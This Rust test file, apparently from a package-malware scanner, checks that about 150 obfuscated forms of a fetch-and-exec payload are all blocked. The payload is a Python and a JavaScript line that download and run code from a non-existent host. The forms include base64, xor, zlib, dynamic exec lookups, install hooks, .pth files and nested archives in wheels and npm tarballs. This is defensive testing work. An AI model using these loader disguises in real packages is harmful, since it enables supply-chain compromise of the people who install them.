//! One payload, told in many ways: what a scanner sees plainly it has to see in every disguise.
//!
//! The payload is a text that is decoded and run, and fetches and runs more from a host that does not exist. Written as
//! anybody would write it, it is BLOCKED; every line below says the same in words that some scanner does not understand,
//! and has to be BLOCKED too. Nothing here is run.

use std::io::{Cursor, Write as _};
use std::path::Path;

use data_encoding::{BASE64, HEXLOWER};
use sigma_analysis::{Analyser, Limits};
use sigma_core::{DistributionKind, SecurityLevel};
use sigma_scan::sample::{Form, Label, Sample, Shape};
use sigma_scan::scan_bytes;

/// What the payload says once it is decoded. The host cannot exist (RFC 2606).
const PYTHON: &str = "import urllib.request\nexec(urllib.request.urlopen('http://evasion.invalid/a').read())\n";
const JAVASCRIPT: &str =
    "require('https').get('https://evasion.invalid/a', r => r.on('data', d => eval(d.toString())));";

/// One file or more of a package; `@B64@` and its like stand for the payload.
type Files<'a> = &'a [(&'a str, &'a str)];

/// The payload in the place of what stands for it.
fn filled(text: &str, payload: &str) -> String {
    let reversed: String = BASE64.encode(payload.as_bytes()).chars().rev().collect();
    let codes: Vec<String> = payload.bytes().map(|byte| byte.to_string()).collect();
    let moved: Vec<String> = payload.bytes().map(|byte| (byte ^ 23).to_string()).collect();
    let packed = {
        let mut zlib = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
        zlib.write_all(payload.as_bytes()).unwrap();
        zlib.finish().unwrap()
    };
    let encoded = BASE64.encode(payload.as_bytes());
    let (first, second) = encoded.split_at(encoded.len() / 2);
    text.replace("@B64@", &encoded)
        .replace("@FIRST@", first)
        .replace("@SECOND@", second)
        .replace("@ZLIB@", &BASE64.encode(&packed))
        .replace("@REVERSED@", &reversed)
        .replace("@HEX@", &HEXLOWER.encode(payload.as_bytes()))
        .replace("@CODES@", &codes.join(","))
        .replace("@XOR@", &moved.join(","))
        .replace("@PLAIN@", payload)
}

fn sample(kind: DistributionKind, files: Vec<(String, Vec<u8>)>) -> Sample {
    let package = match kind {
        DistributionKind::NpmTarball => "npm:demo@1.0.0",
        _ => "pypi:demo@1.0.0",
    };
    Sample {
        title: String::new(),
        label: Label::Malicious,
        package: package.parse().unwrap(),
        form: Form::Built(kind),
        family: String::new(),
        technique: String::new(),
        modelled_on: String::new(),
        shape: Shape::Obfuscated,
        expect: SecurityLevel::Blocked,
        files,
    }
}

/// The level of a package, and which rules led to it.
fn level(kind: DistributionKind, files: Vec<(String, Vec<u8>)>) -> (SecurityLevel, String) {
    let (name, bytes) = sample(kind, files).archive().unwrap();
    let scan = scan_bytes(&Analyser::new(Limits::default()), Path::new(&name), Cursor::new(bytes)).unwrap();
    let rules: Vec<String> = scan.report.distributions[0].rule_hits.keys().cloned().collect();
    (scan.ruling.level, rules.join(" "))
}

/// Every disguise that is milder than BLOCKED, with what was found.
fn check(kind: DistributionKind, payload: &str, disguises: &[(&str, Files<'_>)]) {
    let escaped: Vec<String> = disguises
        .iter()
        .filter_map(|(name, files)| {
            let files = files.iter().map(|(path, text)| ((*path).to_owned(), filled(text, payload).into_bytes()));
            let (level, rules) = level(kind, files.collect());
            (level < SecurityLevel::Blocked).then(|| format!("{name}: {level} [{rules}]"))
        })
        .collect();
    assert!(escaped.is_empty(), "{} of {} escape:\n{}", escaped.len(), disguises.len(), escaped.join("\n"));
}

/// A disguise in the module that is imported first.
macro_rules! one {
    ($path:literal: $($name:literal => $text:expr),* $(,)?) => { &[$(($name, &[($path, $text)] as Files<'_>)),*] };
}

#[test]
fn python_in_one_file() {
    let disguises: &[(&str, Files<'_>)] = one!("demo/__init__.py":
        "plain" => "import base64\nexec(base64.b64decode('@B64@'))\n",
        // The ten of the comparison that are about one file.
        "from import" => "from base64 import b64decode\nexec(b64decode('@B64@'))\n",
        "odd triple quote in a comment" => "# it's \"\"\" here\nimport base64\nexec(base64.b64decode('@B64@'))\n",
        "odd triple quote in a text" => "x = \"'''\"\nimport base64\nexec(base64.b64decode('@B64@'))\ny = '\"\"\"'\n",
        "getattr" => "import base64, builtins\ngetattr(builtins, 'ex' + 'ec')(getattr(base64, 'b64' + 'decode')('@B64@'))\n",
        "indirect" => "import base64\nrun = exec\nrun(base64.b64decode('@B64@'))\n",
        "alias" => "import base64 as b\nd, e = b.b64decode, exec\ne(d('@B64@'))\n",
        // Names.
        "alias in import" => "from base64 import b64decode as d\nfrom builtins import exec as e\ne(d('@B64@'))\n",
        "__import__" => "exec(__import__('base64').b64decode('@B64@'))\n",
        "importlib" => "import importlib\nexec(importlib.import_module('base' + '64').b64decode('@B64@'))\n",
        "__builtins__" => "import base64\n__builtins__['exec'](base64.b64decode('@B64@'))\n",
        "builtins' dictionary" => "import base64, builtins\nbuiltins.__dict__['ex' 'ec'](base64.b64decode('@B64@'))\n",
        "vars" => "import base64, builtins\nvars(builtins)['exec'](base64.b64decode('@B64@'))\n",
        "globals" => "import base64\nglobals()['__builtins__'].exec(base64.b64decode('@B64@'))\n",
        "sys.modules" => "import base64, sys\nsys.modules['builtins'].exec(base64.b64decode('@B64@'))\n",
        "star import" => "from base64 import *\nexec(b64decode('@B64@'))\n",
        "wide letters" => "import base64\nｅｘｅｃ(base64.b64decode('@B64@'))\n",
        "wide letters of a method" => "import base64\nexec(base64.𝐛64𝐝ecode('@B64@'))\n",
        "name decoded" => "import base64, builtins\ngetattr(builtins, base64.b64decode('ZXhlYw==').decode())(base64.b64decode('@B64@'))\n",
        "name reversed" => "import base64, builtins\ngetattr(builtins, 'cexe'[::-1])(base64.b64decode('@B64@'))\n",
        // Calls.
        "list" => "import base64\n[exec][0](base64.b64decode('@B64@'))\n",
        "dictionary" => "import base64\n{'a': exec}['a'](base64.b64decode('@B64@'))\n",
        "lambda" => "import base64\n(lambda f, t: f(t))(exec, base64.b64decode('@B64@'))\n",
        "map" => "import base64\nlist(map(exec, [base64.b64decode('@B64@')]))\n",
        "comprehension" => "import base64\n[exec(t) for t in [base64.b64decode('@B64@')]]\n",
        "decorator" => "import base64\n@exec\n@lambda _: base64.b64decode('@B64@')\ndef f(): pass\n",
        "partial" => "import base64, functools\nfunctools.partial(exec, base64.b64decode('@B64@'))()\n",
        "dunder call" => "import base64\nexec.__call__(base64.b64decode('@B64@'))\n",
        "compile" => "import base64\ncode = compile(base64.b64decode('@B64@'), '<a>', 'exec')\nexec(code)\n",
        "function type" => "import base64, types\ntypes.FunctionType(compile(base64.b64decode('@B64@'), 'a', 'exec'), {})()\n",
        "eval of exec" => "import base64\neval('exec(t)', {'t': base64.b64decode('@B64@')})\n",
        "code in a text" => "exec(\"import base64\\nexec(base64.b64decode('@B64@'))\")\n",
        "walrus" => "import base64\nif (t := base64.b64decode('@B64@')): exec(t)\n",
        "function returns it" => "import base64\ndef text():\n    return base64.b64decode('@B64@')\nexec(text())\n",
        "function gets it" => "import base64\ndef run(text):\n    exec(text)\nrun(base64.b64decode('@B64@'))\n",
        "class" => "import base64\nclass Loader:\n    text = '@B64@'\n    def load(self):\n        exec(base64.b64decode(self.text))\nLoader().load()\n",
        "init of a class" => "import base64\nclass Loader:\n    def __init__(self):\n        self.text = base64.b64decode('@B64@')\n        exec(self.text)\nLoader()\n",
        "class body" => "import base64\nclass Loader:\n    exec(base64.b64decode('@B64@'))\n",
        "default argument" => "import base64\ndef f(x=exec(base64.b64decode('@B64@'))): pass\n",
        "thread" => "import base64, threading\nthreading.Thread(target=exec, args=(base64.b64decode('@B64@'),)).start()\n",
        "at exit" => "import atexit, base64\natexit.register(exec, base64.b64decode('@B64@'))\n",
        "interpreter" => "import base64, subprocess, sys\nsubprocess.Popen([sys.executable, '-c', base64.b64decode('@B64@').decode()])\n",
        "shell" => "import os\nos.system('python3 -c \"import base64;exec(base64.b64decode(\\'@B64@\\'))\"')\n",
        "docstring" => "\"\"\"@B64@\"\"\"\nimport base64\nexec(base64.b64decode(__doc__))\n",
        // Decoders.
        "urlsafe" => "import base64\nexec(base64.urlsafe_b64decode('@B64@'))\n",
        "codecs" => "import codecs\nexec(codecs.decode(b'@B64@', 'base64'))\n",
        "binascii" => "import binascii\nexec(binascii.a2b_base64('@B64@'))\n",
        "zlib" => "import base64, zlib\nexec(zlib.decompress(base64.b64decode('@ZLIB@')))\n",
        "hexadecimal" => "exec(bytes.fromhex('@HEX@'))\n",
        "reversed" => "import base64\nexec(base64.b64decode('@REVERSED@'[::-1]))\n",
        "codes" => "exec(''.join(map(chr, [@CODES@])))\n",
        "bytes" => "exec(bytes([@CODES@]))\n",
        "loop over codes" => "text = ''\nfor c in [@CODES@]:\n    text += chr(c)\nexec(text)\n",
        "xor" => "exec(''.join(chr(c ^ 23) for c in [@XOR@]))\n",
        "pieces" => "import base64\na = '@FIRST@'\nb = '@SECOND@'\nexec(base64.b64decode(a + b))\n",
        "format" => "import base64\nexec(base64.b64decode('{}{}'.format('@FIRST@', '@SECOND@')))\n",
        "f-text" => "import base64\na = '@FIRST@'\nexec(base64.b64decode(f'{a}@SECOND@'))\n",
        "percent" => "import base64\nexec(base64.b64decode('%s%s' % ('@FIRST@', '@SECOND@')))\n",
        "join" => "import base64\nexec(base64.b64decode(''.join(['@FIRST@', '@SECOND@'])))\n",
        "noise taken out" => "import base64\nexec(base64.b64decode('@FIRST@#@SECOND@'.replace('#', '')))\n",
        // Layout.
        "far to the right" => concat!("import base64; x = 1;", "                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                            ", "exec(base64.b64decode('@B64@'))\n"),
        "line continued" => "import base64\nexec\\\n(\\\nbase64\\\n.b64decode\\\n('@B64@'))\n",
        "carriage returns" => "import base64\r# a comment\rexec(base64.b64decode('@B64@'))\r",
        "form feed" => "import base64\n\x0cexec(base64.b64decode('@B64@'))\n",
        "does not parse" => "import base64\nprint 'Python 2'\nexec(base64.b64decode('@B64@'))\n",
        "behind a guard" => "import base64\ntry:\n    import nothing\nexcept ImportError:\n    exec(base64.b64decode('@B64@'))\n",
        "type checking" => "import base64\nif not False:\n    exec(base64.b64decode('@B64@'))\n",
    );
    check(DistributionKind::Wheel, PYTHON, disguises);
}

#[test]
fn javascript_in_one_file() {
    let disguises: &[(&str, Files<'_>)] = one!("index.js":
        "plain" => "eval(Buffer.from('@B64@', 'base64').toString());\n",
        "atob" => "eval(atob('@B64@'));\n",
        "indirect" => "(0, eval)(atob('@B64@'));\n",
        "alias" => "const run = eval;\nrun(atob('@B64@'));\n",
        "optional" => "eval?.(atob('@B64@'));\n",
        "call" => "eval.call(null, atob('@B64@'));\n",
        "apply" => "eval.apply(null, [atob('@B64@')]);\n",
        "bind" => "eval.bind(null)(atob('@B64@'));\n",
        "reflect" => "Reflect.apply(eval, null, [atob('@B64@')]);\n",
        "global this" => "globalThis['ev' + 'al'](atob('@B64@'));\n",
        "name decoded" => "globalThis[atob('ZXZhbA==')](atob('@B64@'));\n",
        "global destructured" => "const { eval: run, atob: read } = globalThis;\nrun(read('@B64@'));\n",
        "escaped letters" => "\\u0065val(\\u{61}tob('@B64@'));\n",
        "escaped texts" => "globalThis['\\x65\\x76\\x61\\x6c'](atob('@B64@'));\n",
        "function" => "new Function(atob('@B64@'))();\n",
        "function with require" => "new Function('require', atob('@B64@'))(require);\n",
        "function without new" => "Function(atob('@B64@'))();\n",
        "constructor" => "(() => {}).constructor(atob('@B64@'))();\n",
        "constructor by name" => "[]['filter']['constructor'](atob('@B64@'))();\n",
        "async function" => "const F = Object.getPrototypeOf(async function () {}).constructor;\nnew F(atob('@B64@'))();\n",
        "timer" => "setTimeout(atob('@B64@'), 0);\n",
        "vm" => "require('vm').runInThisContext(atob('@B64@'));\n",
        "vm script" => "const { Script } = require('node:vm');\nnew Script(atob('@B64@')).runInThisContext();\n",
        "module" => "const Module = require('module');\nconst m = new Module('a');\nm._compile(atob('@B64@'), 'a');\n",
        "data address" => "import('data:text/javascript;base64,@B64@');\n",
        "interpreter" => "require('child_process').spawn(process.execPath, ['-e', atob('@B64@')]);\n",
        "shell" => "require('child_process').exec(\"node -e \\\"eval(atob('@B64@'))\\\"\");\n",
        "array" => "[eval][0](atob('@B64@'));\n",
        "object" => "({ a: eval }).a(atob('@B64@'));\n",
        "for each" => "[atob('@B64@')].forEach(eval);\n",
        "map" => "['@B64@'].map(atob).map(eval);\n",
        "callback" => "(f => f(atob('@B64@')))(eval);\n",
        "promise" => "Promise.resolve(atob('@B64@')).then(eval);\n",
        "function returns it" => "function text() { return atob('@B64@'); }\neval(text());\n",
        "function gets it" => "function run(text) { eval(text); }\nrun(atob('@B64@'));\n",
        "class" => "class Loader {\n  constructor() { this.text = atob('@B64@'); }\n  load() { eval(this.text); }\n}\nnew Loader().load();\n",
        "static block" => "class Loader { static { eval(atob('@B64@')); } }\n",
        "getter" => "const o = { get a() { return eval(atob('@B64@')); } };\no.a;\n",
        "default parameter" => "(function (a = eval(atob('@B64@'))) {})();\n",
        "template" => "eval(`${atob('@B64@')}`);\n",
        "code in a text" => "eval(\"eval(atob('@B64@'))\");\n",
        "comma" => "eval((1, atob('@B64@')));\n",
        "condition" => "eval(Math.random() < 2 ? atob('@B64@') : '');\n",
        "hexadecimal" => "eval(Buffer.from('@HEX@', 'hex').toString());\n",
        "zlib" => "eval(require('zlib').inflateSync(Buffer.from('@ZLIB@', 'base64')).toString());\n",
        "reversed" => "eval(atob('@REVERSED@'.split('').reverse().join('')));\n",
        "codes" => "eval(String.fromCharCode(@CODES@));\n",
        "codes spread" => "eval(String.fromCharCode(...[@CODES@]));\n",
        "codes mapped" => "eval([@CODES@].map(c => String.fromCharCode(c)).join(''));\n",
        "xor" => "eval([@XOR@].map(c => String.fromCharCode(c ^ 23)).join(''));\n",
        "loop" => "let text = '';\nfor (const c of [@XOR@]) text += String.fromCharCode(c ^ 23);\neval(text);\n",
        "bytes" => "eval(Buffer.from([@CODES@]).toString());\n",
        "text decoder" => "eval(new TextDecoder().decode(new Uint8Array([@CODES@])));\n",
        "pieces" => "const a = '@FIRST@', b = '@SECOND@';\neval(atob(a + b));\n",
        "array of pieces" => "eval(atob(['@FIRST@', '@SECOND@'].join('')));\n",
        "noise taken out" => "eval(atob('@FIRST@#@SECOND@'.replace(/#/g, '')));\n",
        "quote in an expression" => "const r = /['\"`]/;\neval(atob('@B64@'));\n",
        "open comment in a text" => "const t = '/*';\neval(atob('@B64@'));\n",
        "hash bang" => "#!/usr/bin/env node\neval(atob('@B64@'));\n",
        "old comment" => "<!-- a comment\neval(atob('@B64@'));\n",
        "does not parse" => "let = = 1;\neval(atob('@B64@'));\n",
        "line separator" => "// a comment\u{2028}eval(atob('@B64@'));\n",
    );
    check(DistributionKind::NpmTarball, JAVASCRIPT, disguises);
}

const RUN: &str = "import os, base64\nhere = os.path.dirname(__file__)\n";

#[test]
fn python_in_other_places() {
    let run = |text: &str| format!("{RUN}{text}\n");
    let (text, json, marked) = (
        run("exec(base64.b64decode(open(os.path.join(here, 'data.txt')).read()))"),
        run("import json\nexec(base64.b64decode(json.load(open(os.path.join(here, 'data.json')))['a']))"),
        run("exec(open(os.path.join(here, 'a\\nb.py')).read())"),
    );
    let (path, package) = (
        run("from pathlib import Path\nexec(base64.b64decode(Path(here, 'data.bin').read_text()))"),
        run("import pkgutil\nexec(base64.b64decode(pkgutil.get_data(__name__, 'data.cfg')))"),
    );
    let plain = "import base64\nexec(base64.b64decode('@B64@'))\n";
    let disguises: &[(&str, Files<'_>)] = &[
        ("payload in .txt", &[("demo/__init__.py", &text), ("demo/data.txt", "@B64@")]),
        ("payload in .json", &[("demo/__init__.py", &json), ("demo/data.json", "{\"a\": \"@B64@\"}")]),
        ("payload in a file of any ending", &[("demo/__init__.py", &path), ("demo/data.bin", "@B64@")]),
        ("payload in package data", &[("demo/__init__.py", &package), ("demo/data.cfg", "@B64@")]),
        ("newline in a file name", &[("demo/__init__.py", &marked), ("demo/a\nb.py", plain)]),
        (
            "newline in a module name",
            &[("demo/__init__.py", "from . import a\n"), ("demo/a\n.py", plain), ("demo/a.py", "")],
        ),
        (
            "payload in another module",
            &[
                ("demo/__init__.py", "import base64\nfrom .data import TEXT\nexec(base64.b64decode(TEXT))\n"),
                ("demo/data.py", "TEXT = '@B64@'\n"),
            ],
        ),
        (
            "decoder in another module",
            &[
                ("demo/__init__.py", "from .tools import read\nexec(read('@B64@'))\n"),
                ("demo/tools.py", "import base64\ndef read(text):\n    return base64.b64decode(text)\n"),
            ],
        ),
        (
            "runner in another module",
            &[
                ("demo/__init__.py", "import base64\nfrom .tools import run\nrun(base64.b64decode('@B64@'))\n"),
                ("demo/tools.py", "def run(text):\n    exec(text)\n"),
            ],
        ),
        (".pth", &[("demo.pth", "import base64;exec(base64.b64decode('@B64@'))\n"), ("demo/__init__.py", "")]),
        (".pyw", &[("demo/__init__.py", "import os\nos.startfile('run.pyw')\n"), ("demo/run.pyw", plain)]),
        ("no ending", &[("demo/__init__.py", "from runpy import run_path\nrun_path('run')\n"), ("demo/run", plain)]),
        ("main module", &[("demo/__init__.py", ""), ("demo/__main__.py", plain)]),
        ("sitecustomize", &[("sitecustomize.py", plain)]),
        (
            "data folder",
            &[("demo-1.0.0.data/scripts/demo", "#!python\nimport base64\nexec(base64.b64decode('@B64@'))\n")],
        ),
        (
            "folder named as tests",
            &[
                ("demo/__init__.py", "from .tests import a\n"),
                ("demo/tests/__init__.py", ""),
                ("demo/tests/a.py", plain),
            ],
        ),
    ];
    check(DistributionKind::Wheel, PYTHON, disguises);
    let disguises: &[(&str, Files<'_>)] = &[
        (
            "setup.py",
            &[("setup.py", "from setuptools import setup\nimport base64\nexec(base64.b64decode('@B64@'))\nsetup()\n")],
        ),
        (
            "command of setup.py",
            &[(
                "setup.py",
                "from setuptools import setup\nfrom setuptools.command.install import install\nimport base64\nclass I(install):\n    def run(self):\n        exec(base64.b64decode('@B64@'))\nsetup(cmdclass={'install': I})\n",
            )],
        ),
        (
            "helper of setup.py",
            &[("setup.py", "from setuptools import setup\nimport helper\nsetup()\n"), ("helper.py", plain)],
        ),
        (
            "backend in the tree",
            &[
                ("pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['.']\n"),
                ("backend.py", "import base64\ndef build_wheel(*a):\n    exec(base64.b64decode('@B64@'))\n"),
            ],
        ),
    ];
    check(DistributionKind::Sdist, PYTHON, disguises);
}

#[test]
fn javascript_in_other_places() {
    let plain = "eval(atob('@B64@'));\n";
    let disguises: &[(&str, Files<'_>)] = &[
        (
            ".mts",
            &[
                ("index.js", "import('./run.mts');\n"),
                ("run.mts", "const text: string = atob('@B64@');\neval(text);\n"),
            ],
        ),
        (
            ".cts",
            &[
                ("index.js", "require('./run.cts');\n"),
                ("run.cts", "const text: string = atob('@B64@');\neval(text);\n"),
            ],
        ),
        (".mjs", &[("index.js", "import('./run.mjs');\n"), ("run.mjs", plain)]),
        (".cjs", &[("index.js", "require('./run.cjs');\n"), ("run.cjs", plain)]),
        (
            ".ts",
            &[("index.js", "require('./run.ts');\n"), ("run.ts", "const text: string = atob('@B64@');\neval(text);\n")],
        ),
        (
            ".jsx",
            &[("index.js", "require('./run.jsx');\n"), ("run.jsx", "const a = <b>'</b>;\neval(atob('@B64@'));\n")],
        ),
        ("source in .txt", &[("index.js", "require('./run.txt');\n"), ("run.txt", plain)]),
        ("source without an ending", &[("index.js", "require('./run');\n"), ("run", plain)]),
        (
            "payload in .txt",
            &[
                (
                    "index.js",
                    "eval(Buffer.from(require('fs').readFileSync(__dirname + '/data.txt', 'utf8'), 'base64').toString());\n",
                ),
                ("data.txt", "@B64@"),
            ],
        ),
        (
            "payload in .json",
            &[("index.js", "eval(atob(require('./data.json').a));\n"), ("data.json", "{\"a\": \"@B64@\"}")],
        ),
        (
            "payload in package.json",
            &[
                ("index.js", "eval(atob(require('./package.json').a));\n"),
                ("package.json", "{\"name\": \"demo\", \"version\": \"1.0.0\", \"a\": \"@B64@\"}"),
            ],
        ),
        ("newline in a file name", &[("index.js", "require('./a\\nb');\n"), ("a\nb.js", plain)]),
        (
            "payload in another module",
            &[
                ("index.js", "const { text } = require('./data');\neval(atob(text));\n"),
                ("data.js", "exports.text = '@B64@';\n"),
            ],
        ),
        (
            "decoder in another module",
            &[
                ("index.js", "import { read } from './tools.js';\neval(read('@B64@'));\n"),
                ("tools.js", "export const read = t => Buffer.from(t, 'base64').toString();\n"),
            ],
        ),
        (
            "runner in another module",
            &[
                ("index.js", "const run = require('./tools');\nrun(atob('@B64@'));\n"),
                ("tools.js", "module.exports = text => eval(text);\n"),
            ],
        ),
        (
            "script at installation",
            &[
                (
                    "package.json",
                    "{\"name\": \"demo\", \"version\": \"1.0.0\", \"scripts\": {\"postinstall\": \"node run.js\"}}",
                ),
                ("run.js", plain),
            ],
        ),
        (
            "command at installation",
            &[(
                "package.json",
                "{\"name\": \"demo\", \"version\": \"1.0.0\", \"scripts\": {\"preinstall\": \"node -e \\\"eval(atob('@B64@'))\\\"\"}}",
            )],
        ),
        ("folder named as tests", &[("index.js", "require('./test/run');\n"), ("test/run.js", plain)]),
    ];
    check(DistributionKind::NpmTarball, JAVASCRIPT, disguises);
}

#[test]
fn nested_deeper_than_is_parsed() {
    let (open, close) = ("[".repeat(2_000), "]".repeat(2_000));
    let python = filled(&format!("x = {open}{close}\nimport base64\nexec(base64.b64decode('@B64@'))\n"), PYTHON);
    let files = vec![("demo/__init__.py".to_owned(), python.into_bytes())];
    let (reached, rules) = level(DistributionKind::Wheel, files);
    assert_eq!(reached, SecurityLevel::Blocked, "{rules}");
    let javascript = filled(&format!("x = {open}{close};\neval(atob('@B64@'));\n"), JAVASCRIPT);
    let (reached, rules) = level(DistributionKind::NpmTarball, vec![("index.js".to_owned(), javascript.into_bytes())]);
    assert_eq!(reached, SecurityLevel::Blocked, "{rules}");
}

#[test]
fn archives_in_archives() {
    let zipped = |path: &str, text: &str| {
        let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
        zip.start_file(path, zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
        zip.finish().unwrap().into_inner()
    };
    let inner = zipped("payload.py", &filled("import base64\nexec(base64.b64decode('@B64@'))\n", PYTHON));
    let loader =
        b"import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'lib.zip'))\nimport payload\n";
    let files = |name: &str| vec![("demo/__init__.py".to_owned(), loader.to_vec()), (name.to_owned(), inner.clone())];
    assert_eq!(level(DistributionKind::Wheel, files("demo/lib.zip")).0, SecurityLevel::Blocked);
    assert_eq!(level(DistributionKind::Wheel, files("demo/logo.png")).0, SecurityLevel::Blocked);
    let npm = zipped("run.js", &filled("eval(atob('@B64@'));\n", JAVASCRIPT));
    let files = vec![("index.js".to_owned(), Vec::new()), ("lib.zip".to_owned(), npm)];
    assert_eq!(level(DistributionKind::NpmTarball, files).0, SecurityLevel::Blocked);
}
